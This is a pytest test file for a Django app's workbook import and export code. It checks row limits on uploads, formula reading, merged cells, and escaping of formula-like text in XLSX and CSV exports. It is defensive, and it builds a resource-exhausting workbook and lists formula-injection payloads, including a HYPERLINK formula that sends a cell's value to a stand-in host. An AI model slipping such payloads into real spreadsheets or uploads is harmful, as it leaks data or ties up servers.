"""Workbooks at the edge: an upload is streamed within stated limits (a 7 KB file with one
cell on row 1,000,000 used to hold a worker for 20-30 s and 2 GB), a formula is read as its
computed result or refused with its cell named (it used to read as empty and erase the
stored value), and a text written to an export never becomes a live formula."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from tongket.core.errors import DomainError
from tongket.core.workbook import (
    MAX_ROWS,
    Problems,
    csv_text,
    new_workbook,
    open_workbook,
    read_sheet,
    workbook_bytes,
    write_sheet,
)

COLUMNS = ["Mã", "Giá trị"]


def upload(workbook: Workbook, *, cached: dict[str, str] | None = None) -> SimpleUploadedFile:
    """The workbook as an uploaded .xlsx; `cached` puts a computed result into formula cells
    (openpyxl writes formulas without one, as a spreadsheet that never computed them)."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    if cached:
        source, target = io.BytesIO(data), io.BytesIO()
        with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
            for item in old.infolist():
                content = old.read(item.filename)
                if item.filename == "xl/worksheets/sheet1.xml":
                    text = content.decode()
                    for formula, value in cached.items():
                        text = text.replace(
                            f"<f>{formula}</f><v></v>", f"<f>{formula}</f><v>{value}</v>"
                        )
                    content = text.encode()
                new.writestr(item, content)
        data = target.getvalue()
    return SimpleUploadedFile("values.xlsx", data)


def sheet_with(*rows: list) -> Workbook:  # type: ignore[type-arg]
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Số liệu"
    sheet.append(COLUMNS)
    for row in rows:
        sheet.append(row)
    return workbook


def test_a_small_file_reaching_row_a_million_is_refused_at_once_with_the_limit():
    """Given a 7 KB workbook with one cell on row 1,000,000, when it is imported, then it is
    refused within a second, the message stating the row reached and the limit."""
    workbook = sheet_with(["HC01", 1])
    workbook.active["A1000000"] = "x"
    file = upload(workbook)
    assert file.size < 10_000
    started = time.monotonic()
    with pytest.raises(DomainError) as refused:
        book = open_workbook(file)
        read_sheet(book, "Số liệu", COLUMNS, Problems())
    assert time.monotonic() - started < 1.0
    message = " ".join(refused.value.messages)
    assert "1.000.000" in message and f"{MAX_ROWS:,}".replace(",", ".") in message


def test_rows_beyond_the_limit_are_refused_even_when_the_sheet_hides_its_size():
    """Given a workbook whose sheet does not declare its size, when it has more rows than the
    limit, then reading stops at the limit with the same refusal."""
    workbook = sheet_with(*[[f"R{i}", i] for i in range(MAX_ROWS + 5)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source, target = io.BytesIO(buffer.getvalue()), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            content = old.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                start = content.index(b"<dimension")
                content = content[:start] + content[content.index(b"/>", start) + 2 :]
            new.writestr(item, content)
    book = open_workbook(SimpleUploadedFile("big.xlsx", target.getvalue()))
    with pytest.raises(DomainError):
        read_sheet(book, "Số liệu", COLUMNS, Problems())


def test_a_formula_reads_as_its_computed_result_and_one_never_computed_is_refused():
    """Given a formula with a computed result and one without, when the sheet is read, then
    the first gives its result and the second is a problem naming its cell (not an empty
    value that would erase the stored one)."""
    workbook = sheet_with(["HC01", "=2*21"], ["HC02", "=A2*3"])
    book = open_workbook(upload(workbook, cached={"2*21": "42"}))
    problems = Problems()
    sheet = read_sheet(book, "Số liệu", COLUMNS, problems)
    values = {record["Mã"]: record["Giá trị"] for _row, record in sheet.rows}
    assert values["HC01"] == 42
    assert [(p["row"], p["column"]) for p in problems.rows] == [(3, "Giá trị")]
    assert "B3" in problems.rows[0]["message"] and "A2*3" in problems.rows[0]["message"]


def test_merged_cells_are_still_found_when_streaming():
    workbook = sheet_with(["HC01", 1], ["HC02", 2])
    workbook.active.merge_cells("A2:B2")
    problems = Problems()
    read_sheet(open_workbook(upload(workbook)), "Số liệu", COLUMNS, problems)
    assert problems.rows and "A2:B2" in problems.rows[0]["message"]


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.example/?q="&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
)
def test_a_text_written_to_a_sheet_stays_text(text):
    """Given an indicator named like a formula, when it is written to an export, then the
    cell is text showing the name as written, never a formula."""
    workbook = new_workbook()
    write_sheet(workbook, "Chỉ tiêu", ["Mã", "Tên"], [["KT01", text]])
    workbook["Chỉ tiêu"]["D7"] = text  # a cell an export sets itself
    saved = load_workbook(io.BytesIO(workbook_bytes(workbook)))["Chỉ tiêu"]
    for cell in (saved["B2"], saved["D7"]):
        assert cell.data_type == "s" and cell.value == text


def test_a_csv_text_that_would_be_a_formula_is_escaped():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_text(v) for v in ["=1+1", "Quân khu 2", 12, "-5"]])
    assert buffer.getvalue().strip() == "'=1+1,Quân khu 2,12,'-5"
